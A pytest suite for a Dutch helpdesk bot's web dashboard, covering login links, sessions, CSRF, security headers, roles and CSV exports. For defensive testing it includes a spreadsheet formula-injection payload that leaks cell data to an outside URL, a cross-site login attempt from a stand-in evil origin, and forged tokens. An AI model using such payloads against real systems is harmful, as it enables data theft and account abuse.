"""The web app through aiohttp's test client: health, metrics, login, sessions, CSRF, headers,
the pages (on SQLite and PostgreSQL) and what an anonymous visitor gets (nothing)."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import date

import pytest
from aiohttp.test_utils import TestClient, TestServer
from itsdangerous import TimestampSigner, URLSafeTimedSerializer
from prometheus_client import REGISTRY
from sqlmodel.ext.asyncio.session import AsyncSession

from bot.leases import Instances
from bot.runtime import desk_services
from bot.settings import Settings
from bot.web import WebState, init_app
from bot.web import keys as web_keys
from bot.web.app import ENGINE
from bot.web.login import LoginLinks
from bot.worker import heartbeat_key
from handoff.models import ConversationSummary
from handoff.summaries import expert_ref
from tests.web_harness import ADMIN, EXPERT, Web

pytestmark = pytest.mark.timeout(60)

PAGES = ["/dashboard", "/dashboard/queue", "/dashboard/queue/live", "/dashboard/summaries",
         "/dashboard/experts", "/dashboard/knowledge", "/dashboard/trends",
         "/dashboard/trends.csv?table=rising"]


async def test_healthz_names_what_is_down(web: Web) -> None:
    me = web.settings.instance
    # Another instance's worker beating does not make this instance's worker healthy.
    await web.desk.redis.set(heartbeat_key("other-host-1"), "1", ex=30)
    resp = await web.client.get("/healthz")
    assert resp.status == 503 and await resp.json() == {
        "status": "down", "down": ["worker"], "degraded": [], "instance": me}
    await web.desk.redis.set(heartbeat_key(me), "1", ex=30)
    resp = await web.client.get("/healthz")
    assert resp.status == 200 and await resp.json() == {
        "status": "ok", "down": [], "degraded": [], "instance": me}
    # A webhook update stored long ago and still not handled (on a partition nobody reads):
    # the feed is stuck.
    await web.desk.redis.xadd(web_keys.webhook_partition(web.settings.feed_partitions - 1),
                              {"update": "{}"}, id="1000-0")
    resp = await web.client.get("/healthz")
    assert resp.status == 200 and await resp.json() == {
        "status": "degraded", "down": [], "degraded": ["webhook_backlog"], "instance": me}


async def test_healthz_lists_the_live_instances_when_several_run(web: Web) -> None:
    web.desk.settings = web.desk.settings.model_copy(update={"instances": "multi"})
    me = web.settings.instance
    await web.desk.redis.set(heartbeat_key(me), "1", ex=30)
    other = Instances(web.desk.redis, "zz-second-machine")
    await other.beat()
    body = await (await web.client.get("/healthz")).json()
    assert body["instance"] == me and body["instances"] == sorted([me, "zz-second-machine"])
    await other.leave()  # a clean stop: gone from the list at once
    body = await (await web.client.get("/healthz")).json()
    assert body["instances"] == [me]


async def test_healthz_reports_an_unreachable_database(settings: Settings, redis) -> None:
    broken = settings.model_copy(update={"database_url": "postgresql://nobody@127.0.0.1:1/x"})
    async with desk_services(broken) as desk, TestClient(TestServer(
            init_app(broken, desk, WebState(expect_worker=False)))) as client:
        resp = await client.get("/healthz")
        assert resp.status == 503 and (await resp.json())["down"] == ["database"]


async def test_metrics_in_prometheus_format_without_personal_labels(web: Web) -> None:
    claimed = REGISTRY.get_sample_value("vraagbaak_tickets_claimed_total") or 0
    ticket = await web.desk.handoff.open(5001, "nl", "family", "onderwijs", "Utrecht", True)
    assert await web.desk.handoff.claim(ticket.id, EXPERT, 3) == "ok"
    assert await web.desk.handoff.claim(ticket.id, EXPERT, 3) == "ok"  # again: not counted
    await web.desk.handoff.open(5002, "nl", "online", "onderwijs", "Utrecht", True)
    await web.desk.trends.answered(5003, "online", None, "nl", False, "online-algorithms")
    resp = await web.client.get("/metrics")
    assert resp.status == 200 and resp.content_type == "text/plain"
    text = await resp.text()
    assert 'vraagbaak_queue_length{urgency="urgent"} 1.0' in text
    assert f"vraagbaak_tickets_claimed_total {claimed + 1}" in text
    assert "vraagbaak_time_to_claim_seconds_bucket" in text
    assert 'vraagbaak_worker_pending{stream="trends"} 1.0' in text
    for name in ("vraagbaak_updates_handled_total", "vraagbaak_handler_seconds",
                 "vraagbaak_errors_total", "vraagbaak_triage_topics_total",
                 "vraagbaak_snippet_votes_total", "vraagbaak_replies_sent_total"):
        assert f"# TYPE {name.removesuffix('_total')}" in text
    labels = re.findall(r'(\w+)="([^"]*)"', "\n".join(
        line for line in text.splitlines() if not line.startswith("#")))
    # Bucket bounds aside, no label value carries a number that could be an id.
    assert labels and not [v for name, v in labels if name != "le" and re.search(r"\d{3,}", v)]


@pytest.mark.parametrize("path", PAGES)
async def test_anonymous_visitors_are_sent_to_how_to_log_in(web: Web, path: str) -> None:
    await web.desk.handoff.open(5001, "nl", "family", "onderwijs", "Utrecht", False)
    resp = await web.client.get(path, allow_redirects=False)
    assert resp.status == 303 and resp.headers["Location"] == "/dashboard/how"
    assert "Utrecht" not in await resp.text()
    how = await web.client.get(path)
    assert "/dashboard" in await how.text() and how.url.path == "/dashboard/how"


async def test_anonymous_posts_change_nothing(web: Web) -> None:
    for path in (f"/dashboard/experts/{EXPERT}/remove", "/dashboard/experts/invite"):
        resp = await web.client.post(path, data={"name": "X"}, allow_redirects=False)
        assert resp.status == 303
    assert await web.desk.experts.is_expert(EXPERT)


async def test_a_login_link_works_once_and_sets_a_strict_http_only_cookie(web: Web) -> None:
    token = await LoginLinks(web.desk.redis, web.settings.secret()).issue(EXPERT)
    form = await web.client.get(f"/dashboard/login?t={token}")
    assert form.status == 200 and token in await form.text()
    resp = await web.post_login(token)
    assert resp.status == 303 and resp.headers["Location"] == "/dashboard/queue"
    cookie = resp.cookies["vb_session"]
    assert cookie["httponly"] and cookie["samesite"] == "Strict" and cookie["path"] == "/dashboard"
    assert not cookie["secure"]  # plain http in the test; see the https test below
    assert (await web.client.get("/dashboard/queue", allow_redirects=False)).status == 200
    web.client.session.cookie_jar.clear()
    again = await web.post_login(token)
    assert again.status == 303 and again.headers["Location"].startswith("/dashboard/how")
    assert "vb_session" not in again.cookies


async def test_forged_expired_and_outsider_links_are_refused(web: Web) -> None:
    forged = URLSafeTimedSerializer(b"other", salt="vraagbaak-dashboard-login").dumps("x")

    class Past(TimestampSigner):
        def get_timestamp(self) -> int:
            return int(time.time()) - 601

    links = LoginLinks(web.desk.redis, web.settings.secret())
    nonce_token = await links.issue(EXPERT)
    nonce = links.signer.loads(nonce_token)
    expired = URLSafeTimedSerializer(web.settings.secret(), salt="vraagbaak-dashboard-login",
                                     signer=Past).dumps(nonce)
    outsider = await links.issue(12345)  # neither expert nor admin
    for token in (forged, expired, outsider, "garbage"):
        resp = await web.post_login(token)
        assert resp.status == 303 and resp.headers["Location"].startswith("/dashboard/how")
        assert "vb_session" not in resp.cookies


async def test_cookie_is_secure_behind_https(settings: Settings, redis) -> None:
    https = settings.model_copy(update={"web_public_url": "https://desk.example.org",
                                        "admin_ids": [ADMIN]})
    async with desk_services(https) as desk, TestClient(TestServer(
            init_app(https, desk, WebState()))) as client:
        token = await LoginLinks(desk.redis, https.secret()).issue(ADMIN)
        form = await client.get("/dashboard/login", params={"t": token})
        assert form.cookies["vb_login"]["secure"]
        # The test client speaks plain http and so keeps Secure cookies to itself: hand it on.
        bound = form.cookies["vb_login"].value
        resp = await client.post("/dashboard/login", data={"t": token, "form": bound},
                                 cookies={"vb_login": bound}, allow_redirects=False)
        assert resp.cookies["vb_session"]["secure"]


async def test_a_login_posted_from_another_site_is_refused(web: Web) -> None:
    token = await LoginLinks(web.desk.redis, web.settings.secret()).issue(EXPERT)
    # Another site's form: no cookie of our login page (SameSite=Strict), or a form token
    # the attacker fetched for their own browser.
    attacker_page = await (await web.client.get("/dashboard/login")).text()
    their_form = re.search(r'name="form" value="([^"]+)"', attacker_page).group(1)
    web.client.session.cookie_jar.clear()
    for data in ({"t": token}, {"t": token, "form": their_form}):
        resp = await web.client.post("/dashboard/login", data=data, allow_redirects=False,
                                     headers={"Origin": "https://evil.example"})
        assert resp.status == 403 and "vb_session" not in resp.cookies
        page = await resp.text()
        assert "<h1>Inloggen geweigerd</h1>" in page
        assert "niet verstuurd vanaf de eigen inlogpagina" in page
    resp = await web.post_login(token)  # the link from the bot was not used up
    assert resp.status == 303 and resp.headers["Location"] == "/dashboard/queue"


def session_cookie(web: Web) -> str:
    return next(c.value for c in web.client.session.cookie_jar if c.key == "vb_session")


async def test_the_admin_role_is_checked_on_every_request(web: Web) -> None:
    code = await web.desk.experts.create_invite("Coördinator", (), ("nl",))
    await web.desk.experts.redeem_invite(code, ADMIN)  # a coordinator who is an expert too
    await web.login(ADMIN)
    assert (await web.client.get("/dashboard/experts")).status == 200
    was_admin = session_cookie(web)
    web.client.session.cookie_jar.clear()
    await web.login(EXPERT)
    was_expert = session_cookie(web)
    # Restarted with VRAAGBAAK_ADMIN_IDS naming the other one; the sessions are in Redis.
    changed = web.settings.model_copy(update={"admin_ids": [EXPERT]})
    async with desk_services(changed) as desk, TestClient(TestServer(
            init_app(changed, desk, WebState()))) as client:
        client.session.cookie_jar.update_cookies({"vb_session": was_admin})
        assert (await client.get("/dashboard/experts")).status == 403
        page = await (await client.get("/dashboard/queue")).text()
        assert "Wachtrij (live)" in page and "/dashboard/experts" not in page
        client.session.cookie_jar.clear()
        client.session.cookie_jar.update_cookies({"vb_session": was_expert})
        assert (await client.get("/dashboard/experts")).status == 200
        await web.desk.experts.remove(EXPERT)  # still an admin, so still in
        assert (await client.get("/dashboard/experts")).status == 200
        await web.desk.experts.remove(ADMIN)  # neither expert nor admin: out at once
        client.session.cookie_jar.clear()
        client.session.cookie_jar.update_cookies({"vb_session": was_admin})
        resp = await client.get("/dashboard/queue/live", allow_redirects=False)
        assert resp.status == 303 and resp.headers["Location"] == "/dashboard/how"


async def test_polling_does_not_extend_the_idle_expiry(web: Web) -> None:
    await web.login(EXPERT)
    [key] = [k async for k in web.desk.redis.scan_iter("vb:web:session:*")]
    await web.desk.redis.expire(key, 600)  # ten minutes left of the idle time
    for _ in range(3):
        live = await web.client.get("/dashboard/queue/live")
        assert live.status == 200 and "vb_session" not in live.cookies
    fetched = await web.client.get("/dashboard/queue", headers={"Sec-Fetch-Mode": "cors"})
    assert fetched.status == 200
    assert await web.desk.redis.ttl(key) <= 600
    # Opening a page is something the person did: the idle time starts again.
    opened = await web.client.get("/dashboard/summaries",
                                  headers={"Sec-Fetch-Mode": "navigate"})
    assert opened.status == 200 and opened.cookies["vb_session"]["max-age"] == str(8 * 3600)
    assert await web.desk.redis.ttl(key) > 8 * 3600 - 5


async def test_sessions_end_after_idle_time_and_when_the_expert_is_removed(web: Web) -> None:
    await web.login(EXPERT)
    [key] = [k async for k in web.desk.redis.scan_iter("vb:web:session:*")]
    assert 8 * 3600 - 5 <= await web.desk.redis.ttl(key) <= 8 * 3600
    await web.desk.experts.remove(EXPERT)
    resp = await web.client.get("/dashboard/queue", allow_redirects=False)
    assert resp.status == 303 and not await web.desk.redis.exists(key)


async def test_every_form_needs_the_csrf_token(web: Web) -> None:
    await web.login(ADMIN)
    for token in (None, "wrong"):
        data = {"name": "Ahmed"} | ({"csrf": token} if token else {})
        resp = await web.client.post("/dashboard/experts/invite", data=data)
        assert resp.status == 403
    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove", data={})
    assert resp.status == 403 and await web.desk.experts.is_expert(EXPERT)
    resp = await web.client.post("/dashboard/experts/invite",
                                 data={"name": "Ahmed", "csrf": await web.csrf(),
                                       "lang_nl": "on"})
    page = await resp.text()
    code = re.search(r"start=inv_([\w-]+)", page).group(1)
    expert = await web.desk.experts.redeem_invite(code, 902)
    assert expert is not None and expert.display_name == "Ahmed" and expert.languages == ("nl",)


async def test_security_headers_and_no_inline_script(web: Web) -> None:
    await web.login(ADMIN)
    for path in ["/dashboard/how", *PAGES[1:-1], f"/dashboard/experts/{EXPERT}/remove"]:
        resp = await web.client.get(path)
        assert resp.status == 200, path
        csp = resp.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
        assert "unsafe-inline" not in csp and resp.headers["X-Frame-Options"] == "DENY"
        assert resp.headers["Referrer-Policy"] == "no-referrer"
        html = await resp.text()
        assert not re.search(r"<script(?![^>]*\bsrc=)", html), path
        assert " on" + "click=" not in html and "style=" not in html


async def test_experts_cannot_open_the_admin_pages(web: Web) -> None:
    await web.login(EXPERT)
    assert (await web.client.get("/dashboard/experts")).status == 403
    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/pause",
                                 data={"csrf": await web.csrf()})
    assert resp.status == 403


async def test_queue_shows_who_waits_and_who_holds_what_but_never_text(web: Web) -> None:
    handoff = web.desk.handoff
    waiting = await handoff.open(5001, "nl", "family", "jeugdhulp", "Gelderland", True)
    await handoff.add_message(waiting.id, "user", "Mijn zoon Jamal praat over de jihad")
    held = await handoff.open(5002, "nl", "online", "onderwijs", "Utrecht", False)
    assert await handoff.claim(held.id, EXPERT, 3) == "ok"
    await web.login(EXPERT)
    page = await (await web.client.get("/dashboard/queue")).text()
    number = web.desk.pseudonyms.asker_number(waiting.id)
    assert f"Vraagsteller {number}" in page and "Gelderland" in page and "Jeugdhulp" in page
    assert "urgent" in page and "Marieke" in page
    assert f"Vraagsteller {web.desk.pseudonyms.asker_number(held.id)}" in page
    assert "Jamal" not in page and "5001" not in page and str(EXPERT) not in page
    live = await (await web.client.get("/dashboard/queue/live")).text()
    assert f"Vraagsteller {number}" in live and "<html" not in live


async def test_admin_pauses_and_removes_an_expert_whose_conversation_is_requeued(web: Web) -> None:
    await web.desk.experts.set_available(EXPERT, True)
    ticket = await web.desk.handoff.open(5001, "nl", "family", "jeugdhulp", "Utrecht", False)
    assert await web.desk.handoff.claim(ticket.id, EXPERT, 3) == "ok"
    await web.login(ADMIN)
    csrf = await web.csrf()
    await web.client.post(f"/dashboard/experts/{EXPERT}/pause", data={"csrf": csrf})
    assert not (await web.desk.experts.get(EXPERT)).available
    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove",
                                 data={"csrf": csrf, "confirm": "1"})
    assert resp.status == 200 and not await web.desk.experts.is_expert(EXPERT)
    assert [t.id for t in await web.desk.handoff.queue()] == [ticket.id]
    assert (await web.client.post("/dashboard/experts/999/remove",
                                  data={"csrf": csrf, "confirm": "1"})).status == 404
    assert (await web.client.get("/dashboard/experts/999/remove")).status == 404


async def test_removing_an_expert_takes_a_confirmation(web: Web) -> None:
    ticket = await web.desk.handoff.open(5001, "nl", "family", "jeugdhulp", "Utrecht", False)
    assert await web.desk.handoff.claim(ticket.id, EXPERT, 3) == "ok"
    await web.login(ADMIN)
    page = await (await web.client.get("/dashboard/experts")).text()
    # The table's "Verwijderen" only opens the confirmation; no form there removes anyone.
    assert f'action="/dashboard/experts/{EXPERT}/remove"' not in page
    assert re.search(rf'<a [^>]*href="/dashboard/experts/{EXPERT}/remove">Verwijderen'
                     r'<span class="visually-hidden"> Marieke</span></a>', page)
    confirm = await (await web.client.get(f"/dashboard/experts/{EXPERT}/remove")).text()
    assert "<h1>Marieke uit de pool verwijderen?</h1>" in confirm
    assert ("1 gesprek van deze expert gaat terug naar de wachtrij; de vraagsteller krijgt "
            "bericht.") in confirm
    assert ">Marieke verwijderen</button>" in confirm and ">Annuleren</a>" in confirm
    csrf = await web.csrf()
    # A post without the confirmation (an old page, a double click) removes nobody.
    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove", data={"csrf": csrf},
                                 allow_redirects=False)
    assert resp.status == 303
    assert resp.headers["Location"] == f"/dashboard/experts/{EXPERT}/remove"
    assert await web.desk.experts.is_expert(EXPERT) and not await web.desk.handoff.queue()
    # An expert cannot even see the confirmation page; the service decides who may remove.
    web.client.session.cookie_jar.clear()
    await web.login(EXPERT)
    assert (await web.client.get(f"/dashboard/experts/{EXPERT}/remove")).status == 403
    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove",
                                 data={"csrf": await web.csrf(), "confirm": "1"})
    assert resp.status == 403 and await web.desk.experts.is_expert(EXPERT)


ADMIN_PAGES = ["/dashboard/queue", "/dashboard/summaries", "/dashboard/trends",
               "/dashboard/knowledge", "/dashboard/experts", f"/dashboard/experts/{EXPERT}/remove"]


async def test_every_page_has_its_own_title_and_focusable_labelled_scroll_regions(
    web: Web,
) -> None:
    await web.desk.handoff.open(5001, "nl", "family", "jeugdhulp", "Utrecht", False)
    await web.desk.trends.answered(5002, "family", "professional", "nl", False, None)
    await add_summaries(web, [{}])
    titles = {}
    for path in ("/dashboard/how", "/dashboard/login?t=x"):
        titles[path] = re.search(r"<title>(.*)</title>", await (await web.client.get(path))
                                 .text()).group(1)
    await web.login(ADMIN)
    for path in ADMIN_PAGES:
        page = await (await web.client.get(path)).text()
        titles[path] = re.search(r"<title>(.*)</title>", page).group(1)
        for region in re.findall(r'<div class="scroll"[^>]*>', page):
            assert 'tabindex="0"' in region and 'role="region"' in region, (path, region)
            labelled = re.search(r'aria-labelledby="([^"]+)"', region).group(1)
            assert re.search(rf'<h\d id="{labelled}">[^<]+</h\d>', page), (path, labelled)
    assert titles["/dashboard/queue"] == "Wachtrij (live) · Vraagbaak-dashboard"
    assert titles[f"/dashboard/experts/{EXPERT}/remove"] == (
        "Expert verwijderen · Vraagbaak-dashboard")
    assert len(set(titles.values())) == len(titles), titles
    trends = await (await web.client.get("/dashboard/trends")).text()
    downloads = re.findall(r'<a href="/dashboard/trends\.csv[^"]*">([^<]+)</a>', trends)
    assert len(downloads) == 5 == len(set(downloads)), downloads
    assert "CSV downloaden: Vragen per onderwerp per maand" in downloads, downloads


async def test_summaries_in_another_language_are_marked_as_such(web: Web) -> None:
    await add_summaries(web, [{"summary": "Advice given about online hate.", "lang": "en",
                               "comment": "Very helpful."},
                              {"summary": "Advies gegeven over de klas."}])
    await web.login(EXPERT)
    page = await (await web.client.get("/dashboard/summaries")).text()
    assert '<html lang="nl">' in page
    assert '<p lang="en">Advice given about online hate.</p>' in page
    assert '<p class="comment" lang="en">Very helpful.</p>' in page
    assert "<p>Advies gegeven over de klas.</p>" in page


def cell(row: str, label: str) -> str:
    """The text of a table row's cell under a column (its data-label, shown on a phone)."""
    found = re.search(rf'<td data-label="{re.escape(label)}"[^>]*>(.*?)</td>', row, re.S)
    assert found, (label, row)
    return re.sub(r"<[^>]+>", "", found.group(1)).strip()


async def add_summaries(web: Web, rows: list[dict]) -> None:
    engine = web.client.app[ENGINE]
    async with AsyncSession(engine) as db:
        for i, values in enumerate(rows):
            db.add(ConversationSummary(**{
                "job_key": f"job{i}", "closed_on": date.today(), "topic": "family",
                "sector": "onderwijs", "province": "Utrecht", "outcome": "advice",
                "summary": "Advies gegeven.", "expert_ref": expert_ref(
                    web.settings.secret(), EXPERT), "waiting_minutes": 10, "rating": 4,
                **values}))
        await db.commit()


async def test_summaries_filter_and_search(web: Web) -> None:
    await add_summaries(web, [
        {"summary": "Doorverwezen naar het Familiesteunpunt.", "province": "Gelderland",
         "outcome": "referred"},
        {"summary": "Gesprekstips over online haat.", "topic": "online"},
        {"summary": "Oud gesprek.", "closed_on": date(2020, 1, 1)},
    ])
    await web.login(EXPERT)

    async def found(**query: str) -> str:
        return await (await web.client.get("/dashboard/summaries", params=query)).text()

    assert "Familiesteunpunt" in await found(q="familiesteunpunt")
    assert "online haat" not in await found(q="familiesteunpunt")
    assert "Familiesteunpunt" in await found(province="Gelderland", outcome="referred")
    assert "Familiesteunpunt" not in await found(province="Utrecht")
    assert "online haat" in await found(topic="online")
    page = await found(since=date.today().isoformat())
    assert "Oud gesprek" not in page and "online haat" in page
    assert "Oud gesprek" in await found(until="2020-12-31")


async def test_dashboard_csv_downloads_neutralise_formulas(web: Web) -> None:
    formula = '=HYPERLINK("http://x.nl/?"&A1,"Klik")'  # a province is at most 40 long
    await add_summaries(web, [{"province": formula, "sector": "@SUM(1+1)"}])
    await web.login(EXPERT)
    for table, label in (("provinces", formula), ("sectors", "@SUM(1+1)")):
        resp = await web.client.get("/dashboard/trends.csv", params={"table": table})
        rows = list(csv.reader(io.StringIO(await resp.text())))
        assert ["'" + label, "< 5"] in rows, rows


async def test_experts_page_shows_conversations_time_to_claim_and_rating(web: Web) -> None:
    await add_summaries(web, [{"waiting_minutes": 10, "rating": 4},
                              {"waiting_minutes": 20, "rating": 5}])
    await web.login(ADMIN)
    page = await (await web.client.get("/dashboard/experts")).text()
    row = page[page.index("Marieke"):page.index("</tr>", page.index("Marieke"))]
    assert cell(row, "Afgesloten") == "2" and cell(row, "Gem. tijd tot oppakken") == "15 min"
    assert cell(row, "Gem. waardering") == "4.5"


async def test_knowledge_page_counts_served_votes_and_handoffs(web: Web) -> None:
    trends = web.desk.trends
    sid = next(iter(web.desk.kb.snippets))
    for user in range(6001, 6007):
        await trends.answered(user, "family", "professional", "nl", False, sid)
    await trends.handoff(6001)
    await web.desk.feedback.record(sid, False)
    await web.login(EXPERT)
    page = await (await web.client.get("/dashboard/knowledge")).text()
    row = page[page.rindex("<tr", 0, page.index(sid)):page.index("</tr>", page.index(sid))]
    assert cell(row, "Getoond") == "6" and cell(row, "Helpt") == "0"
    assert cell(row, "Helpt niet") == "1" and cell(row, "Daarna naar expert") == "1 (17%)"
    # Weak in words, not only by the row's tint.
    assert 'class="weak"' in row and '<span class="tag weak-tag">zwak</span>' in row


async def test_migrations_reach_the_newest_revision(web: Web) -> None:
    from sqlalchemy import text

    async with web.client.app[ENGINE].connect() as conn:
        version = (await conn.execute(text("SELECT version_num FROM alembic_version"))).scalar()
        counts = [(await conn.execute(text(f"SELECT count(*) FROM {table}"))).scalar()
                  for table in ("question_trend", "knowledge_revision", "knowledge_gap")]
    assert version == "0004" and counts == [0, 0, 0]


def test_json_log_lines_carry_no_token() -> None:
    import json
    import logging

    from bot.logs import JsonLines, RedactTokens

    record = logging.LogRecord("bot", logging.WARNING, __file__, 1,
                               "call to %s failed", ("bot123456789:ABCDEFGHIJKLMNOPQRSTUVWXYZ",),
                               None)
    RedactTokens().filter(record)
    line = JsonLines().format(record)
    entry = json.loads(line)
    assert entry["level"] == "WARNING" and entry["logger"] == "bot"
    assert entry["message"] == "call to bot<token> failed" and "\n" not in line
